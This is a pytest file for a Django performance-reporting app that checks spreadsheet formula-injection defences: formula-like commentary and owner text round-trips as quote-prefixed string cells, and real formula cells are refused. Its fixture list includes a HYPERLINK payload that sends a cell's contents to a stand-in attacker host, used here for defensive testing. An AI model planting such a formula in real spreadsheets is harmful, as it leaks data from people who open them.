"""Text that starts like a formula (`=1+1`, `=HYPERLINK(...)`, `+44`, `-`, `@`)
is text: saved on the web, written into the template or register export as a
string cell that Excel will not run even after an edit (quote prefix), read
back exactly as typed, so an unchanged file changes nothing. A real formula
cell is still refused, with its sheet and cell named (issue 14, defect 5)."""

from __future__ import annotations

import io
import re
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from tests.security_figures import record

from goldenthread.domain.periods import FinancialYear, Quarter
from goldenthread.indicators import services as indicator_services
from goldenthread.indicators.bulk import register_preview
from goldenthread.indicators.models import Indicator
from goldenthread.indicators.register_sheet import (
    RegisterSheetRefused,
    read_register_workbook,
    register_workbook,
)
from goldenthread.people.access import scope_of
from goldenthread.returns.models import Commentary, Return
from goldenthread.returns.sheet_import import read_return_workbook
from goldenthread.returns.sheet_template import return_template
from goldenthread.workbooks.cells import Cell, CellError, written_text

# What a person may type that a spreadsheet would take for a formula.
FORMULA_LIKE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+44 20 7946 0000 rang twice",
    "-3 staff off sick in June",
    "@risk: BACS supplier",
]
HYPERLINK = '=HYPERLINK("http://x","y")'
Q1 = Quarter(FinancialYear(2019), 1)


def edit_url(world, area):
    return reverse("returns:edit", args=["LBH", area.id, 2019, 1])


def template_url(world, area):
    return reverse("returns:template", args=["LBH", area.id, 2019, 1])


def import_url(world, area):
    return reverse("returns:import", args=["LBH", area.id, 2019, 1])


def upload(client, url, content: bytes, name: str = "return.xlsx"):
    handle = io.BytesIO(content)
    handle.name = name
    return client.post(url, {"workbook": handle})


def save_commentary(client, world, reasons: str, remedial: str) -> None:
    """Save commentary through the return's web page, as an officer does."""
    indicator = world.payroll_on_time.id
    response = client.post(
        edit_url(world, world.payroll),
        {
            "version": 0,
            "action": "save",
            f"i{indicator}-total-201904-1": "99.99%",
            f"i{indicator}-reasons": reasons,
            f"i{indicator}-difference": "",
            f"i{indicator}-remedial_actions": remedial,
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    saved = Commentary.objects.get(indicator=world.payroll_on_time, organisation=world.lbh)
    assert (saved.reasons, saved.remedial_actions) == (reasons, remedial)


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_a_text_cell_is_text_and_a_formula_cell_a_formula(text):
    """The one shared place: `written_text` goes by what the cell holds."""
    assert written_text(Cell(7, 6, SimpleNamespace(value=text, data_type="s"))) == text
    formula = Cell(7, 6, SimpleNamespace(value=text, data_type="f"))
    with pytest.raises(CellError, match=r"holds a formula \("):
        written_text(formula)


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_commentary_that_starts_like_a_formula_round_trips_unchanged(client_for, world, text):
    client = client_for("officer.lbh")
    save_commentary(client, world, text, HYPERLINK)
    version = Return.objects.get().version

    template = client.get(template_url(world, world.payroll))
    assert template.status_code == 200
    sheet = load_workbook(io.BytesIO(template.content))["Commentary"]
    for cell, expected in ((sheet["F7"], text), (sheet["H7"], HYPERLINK)):
        assert cell.value == expected  # the text as typed: no apostrophe added
        assert cell.data_type == "s", f"Commentary!{cell.coordinate} is not a string cell"
        assert cell.quotePrefix, f"Commentary!{cell.coordinate} would run after an edit"

    preview = upload(client, import_url(world, world.payroll), template.content)
    page = preview.content.decode()
    assert preview.status_code == 200, page
    assert "holds a formula" not in page
    assert "Nothing to change: the file matches what is saved." in page
    assert 'name="payload"' not in page
    assert Return.objects.get().version == version
    saved = Commentary.objects.get(indicator=world.payroll_on_time, organisation=world.lbh)
    assert (saved.reasons, saved.remedial_actions) == (text, HYPERLINK)
    record("input", "formula-like commentary texts that round-trip unchanged", len(FORMULA_LIKE))


def test_text_typed_with_an_apostrophe_in_excel_is_read_as_the_text(world):
    """Typing '=1+1 in Excel stores the text =1+1 with the quote-prefix style."""
    officer = world.users["officer.lbh"]
    content = return_template(
        organisation=world.lbh, service_areas=[world.payroll], quarter=Q1
    ).content
    book = load_workbook(io.BytesIO(content))
    cell = book["Commentary"]["F7"]
    cell.value = "=1+1"
    cell.data_type = "s"  # text, as Excel stores what was typed after an apostrophe
    cell.quotePrefix = True
    out = io.BytesIO()
    book.save(out)
    plan = read_return_workbook(out.getvalue(), filename="a.xlsx", scope=scope_of(officer))
    (new,) = plan.changes("new")
    assert (new.what, new.after) == ("Reasons", "=1+1")


@pytest.mark.parametrize(
    ("sheet", "cell", "named"),
    [
        ("Commentary", "F7", "Commentary sheet, row 7, column F"),
        ("Return", "J8", "Return sheet, row 8, column J (Figure)"),
    ],
)
def test_a_real_formula_cell_is_still_refused_naming_sheet_and_cell(
    client_for, world, sheet, cell, named
):
    client = client_for("officer.lbh")
    content = client.get(template_url(world, world.payroll)).content
    book = load_workbook(io.BytesIO(content))
    book[sheet][cell] = "=1+1"  # openpyxl writes a formula, as Excel does when one is typed
    assert book[sheet][cell].data_type == "f"
    out = io.BytesIO()
    book.save(out)
    response = upload(client, import_url(world, world.payroll), out.getvalue())
    page = response.content.decode()
    assert response.status_code == 400
    assert re.search(re.escape(named) + r"[^:]*: holds a formula \(=1\+1\)", page), page
    assert not Commentary.objects.exists() and not Return.objects.exists()


# --- the register ------------------------------------------------------------------


def set_owner(world, owner: str) -> Indicator:
    indicator = Indicator.objects.get(reference="EX-02")
    indicator.owner = owner
    return indicator_services.indicator_save(
        indicator=indicator,
        organisations=list(indicator.organisations.all()),
        breakdowns=[b.name for b in indicator.breakdowns.all()],
        by=world.users["performance"],
    )


def owner_cell(content: bytes):
    sheet = load_workbook(io.BytesIO(content))["Register"]
    headings = [c.value for c in sheet[1]]
    ref_column = headings.index("Reference")
    owner_column = headings.index("Owner")
    for row in sheet.iter_rows(min_row=2):
        if row[ref_column].value == "EX-02":
            return row[owner_column]
    raise AssertionError("EX-02 is not in the export")


@pytest.mark.parametrize("owner", [HYPERLINK, "-", "@Jane Smith", "+ Finance team"])
def test_an_owner_that_starts_like_a_formula_round_trips_through_the_export(
    client_for, world, owner
):
    set_owner(world, owner)
    client = client_for("performance")
    exported = client.get(reverse("register_sheet:export"))
    assert exported.status_code == 200
    cell = owner_cell(exported.content)
    assert cell.value == owner and cell.data_type == "s" and cell.quotePrefix

    handle = io.BytesIO(exported.content)
    handle.name = "register.xlsx"
    preview = client.post(reverse("register_sheet:load"), {"workbook": handle})
    page = preview.content.decode()
    assert preview.status_code == 200, page
    assert "holds a formula" not in page
    rows = read_register_workbook(exported.content, filename="register.xlsx")
    plan = register_preview(rows.indicators, rows.targets)
    assert not plan.has_changes
    assert "Nothing to change: the file matches the register." in page
    assert 'name="payload"' not in page
    assert Indicator.objects.get(reference="EX-02").owner == owner


def test_a_real_formula_in_the_register_is_refused_naming_sheet_and_cell(world):
    content = register_workbook()
    book = load_workbook(io.BytesIO(content))
    sheet = book["Register"]
    headings = [c.value for c in sheet[1]]
    owner = sheet.cell(2, headings.index("Owner") + 1)
    owner.value = HYPERLINK
    assert owner.data_type == "f"
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(RegisterSheetRefused) as refusal:
        read_register_workbook(out.getvalue(), filename="register.xlsx")
    assert any(
        f"Register sheet, row 2, column {owner.column_letter} (Owner): holds a formula" in p
        for p in refusal.value.problems
    ), refusal.value.problems


def test_the_choices_sheet_holds_text_only(world):
    book = load_workbook(io.BytesIO(register_workbook()))
    for row in book["Choices"].iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"Choices!{cell.coordinate} is a formula"
